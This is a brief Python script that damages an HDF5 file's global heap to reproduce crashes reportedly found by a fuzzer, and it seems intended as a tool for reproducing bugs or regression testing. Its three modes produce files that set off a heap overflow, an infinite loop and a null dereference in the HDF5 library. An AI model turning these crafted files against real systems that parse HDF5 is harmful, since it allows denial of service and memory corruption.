"""Damages the global heap of an HDF5 file the way the NIR fuzzer did.

usage: corrupt-global-heap.py IN OUT MODE, MODE one of
  short-length    a string reference states fewer bytes than its heap object
                  holds (HDF5 copies the object into a buffer of the stated
                  length: a heap overflow)
  zero-free-space the collection's free-space object has size 0 (HDF5 loops
                  forever loading the collection)
  missing-object  a string reference names an object index the collection
                  does not hold (HDF5 dereferences a null object)
Assumes 8-byte offsets and lengths, as h5py and HDF5 write by default.
"""
import struct
import sys

source, target, mode = sys.argv[1:4]
data = bytearray(open(source, "rb").read())
collection = data.find(b"GCOL")
assert collection > 0, "no global heap collection"
(size,) = struct.unpack_from("<Q", data, collection + 8)

# Walk the collection: (index, offset of the object header, data size).
objects, position = [], collection + 16
while position + 16 <= collection + size:
    index, _, _, length = struct.unpack_from("<HHIQ", data, position)
    objects.append((index, position, length))
    position += length if index == 0 else 16 + (length + 7) // 8 * 8


def reference_to(index, length):
    """Offset of the (first) string reference to object `index`."""
    at = data.find(struct.pack("<IQI", length, collection, index))
    assert at >= 0, "no reference to object %d" % index
    return at


index, header, length = next(o for o in objects if o[0] != 0 and o[2] > 1)
if mode == "short-length":
    struct.pack_into("<I", data, reference_to(index, length), 1)
elif mode == "zero-free-space":
    free = next(o for o in objects if o[0] == 0)
    struct.pack_into("<Q", data, free[1] + 8, 0)
elif mode == "missing-object":
    struct.pack_into("<I", data, reference_to(index, length) + 12, 999)
else:
    sys.exit("unknown mode " + mode)
open(target, "wb").write(data)
